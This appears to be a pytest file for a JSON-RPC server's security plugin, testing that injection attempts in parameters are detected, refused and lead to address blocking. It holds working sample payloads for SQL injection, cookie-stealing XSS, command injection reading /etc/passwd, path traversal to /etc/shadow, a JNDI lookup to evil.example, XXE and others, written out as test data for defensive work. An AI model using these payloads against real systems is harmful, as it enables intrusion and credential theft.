"""What is found in parameters, and what is done about it."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

ONE_OF_EACH = {
    "sqli": "1' UNION SELECT username, password FROM users--",
    "xss": '"><img src=x onerror=alert(document.cookie)>',
    "cmdi": "127.0.0.1; cat /etc/passwd",
    "traversal": "../../../../etc/shadow",
    "nosqli": '{"$ne": null}',
    "ldapi": "*)(uid=*))(|(uid=*",
    "ssti": "{{''.__class__.__mro__[1].__subclasses__()}}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "xxe": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "control": "x\r\nSet-Cookie: admin=1",
}


@pytest.mark.parametrize("category", ONE_OF_EACH)
def test_an_injection_is_refused_in_an_identifier_and_noted_in_a_text(shop: Callable[..., Any], category: str) -> None:
    server = shop("max_delay_s = 0")
    seen = server.events("threat.detected")
    text = ONE_OF_EACH[category]
    with server.raw(source="127.0.0.2") as raw:
        assert raw.ask("system.echo", {"text": text})["result"] == text
        refused = raw.ask("note.named", {"name": text})["error"]
    assert refused["data"]["code"] == 1106
    assert refused["data"]["errors"][0]["field"] == "params.name"
    assert text not in json.dumps(refused)  # nor what it was found by
    assert [(e.category, e.action) for e in seen] == [(category, "noted"), (category, "refused")]


def test_many_injections_block_the_address(shop: Callable[..., Any]) -> None:
    server = shop("max_delay_s = 0")
    for _ in range(3):
        with server.raw(source="127.0.0.3") as raw:
            raw.send(b'{"jsonrpc":"2.0","id":1,"method":"note.named","params":{"name":"1\' or \'1\'=\'1"}}\n')
            raw.line()
    with server.raw(source="127.0.0.3") as raw:
        assert json.loads(raw.line())["error"]["code"] == 1406


def test_operators_in_keys_are_found(shop: Callable[..., Any]) -> None:
    server = shop()
    with server.raw(source="127.0.0.4") as raw:
        assert raw.ask("note.find", {"filter": {"name": {"$ne": None}}})["error"]["data"]["code"] == 1106
        assert raw.ask("note.find", {"filter": {"__proto__": {"admin": True}}})["error"]["data"]["code"] == 1106
        assert raw.ask("note.find", {"filter": {"name": "O'Brien", "_id": 5}})["result"] == 2


def test_a_secret_is_never_scanned(shop: Callable[..., Any]) -> None:
    server = shop()
    seen = server.events("threat.detected")
    with server.raw(source="127.0.0.5") as raw:
        assert raw.ask("note.secret", {"password": "' OR 1=1 -- <script>alert(1)</script>"})["result"]
    assert seen == []


def test_layers_of_encoding_are_taken_off(shop: Callable[..., Any]) -> None:
    server = shop()
    layered = [
        "%253Cscript%253Ealert(1)%253C/script%253E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "＜script＞alert(1)＜/script＞",
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ]
    seen = server.events("threat.detected")
    for number, text in enumerate(layered):
        with server.raw(source=f"127.0.6.{number}") as raw:
            raw.ask("system.echo", {"text": text})
    assert [e.category for e in seen] == ["xss"] * len(layered)


def test_rules_are_switched_at_run_time_and_come_from_files_and_plugins(
    shop: Callable[..., Any], tmp_path: Any
) -> None:
    own = tmp_path / "own.toml"
    own.write_text(
        'category = "cmdi"\n[[rule]]\nid = "own-frobnicate"\nscore = 20\n'
        'description = "our old tool"\npattern = "frobnicate --now"\n'
    )
    server = shop(f"rule_files = ['{own}']")
    seen = server.events("threat.detected")
    with server.raw(source="127.0.0.7") as raw, server.admin() as admin:
        raw.ask("system.echo", {"text": "frobnicate --now;"})
        admin.call("security.rule", id="own-frobnicate", on=False)
        raw.ask("system.echo", {"text": "frobnicate --now;"})
    assert [e.rules for e in seen] == [["own-frobnicate"]]


def test_a_wrong_rule_file_refuses_the_start_and_says_why(inside: Callable[..., Any], tmp_path: Any) -> None:
    wrong = tmp_path / "wrong.toml"
    wrong.write_text('category = "cmdi"\n[[rule]]\nid = "own-x"\nscore = 5\ndescription = "x"\npattern = "(unclosed"\n')
    with pytest.raises(Exception, match=r"own-x: pattern"):
        inside(f"[plugins.security]\nrequired = true\nrule_files = ['{wrong}']", plugins=["security"])


def test_another_plugins_rules_are_taken(inside: Callable[..., Any]) -> None:
    from tidegate import Plugin
    from tidegate_security import Security

    class Other(Plugin):
        offers = {
            "threats": {
                "category": "sqli",
                "rule": [{"id": "other-word", "score": 20, "description": "a word", "pattern": "xyzzy!"}],
            }
        }

    server = inside("[server]\nexempt = []\n", plugins={"security": Security, "other": Other})
    seen = server.events("threat.detected")
    with server.raw(source="127.0.0.8") as raw:
        raw.ask("system.echo", {"text": "say xyzzy!"})
    assert seen[0].rules == ["other-word"]


def test_parameters_of_methods_that_do_not_exist_are_looked_at_too(shop: Callable[..., Any]) -> None:
    server = shop()
    seen = server.events("threat.detected")
    with server.raw(source="127.0.0.9") as raw:
        raw.ask("exec", {"cmd": "; cat /etc/passwd"})
    assert [(e.method, e.category) for e in seen] == [("exec", "cmdi")]
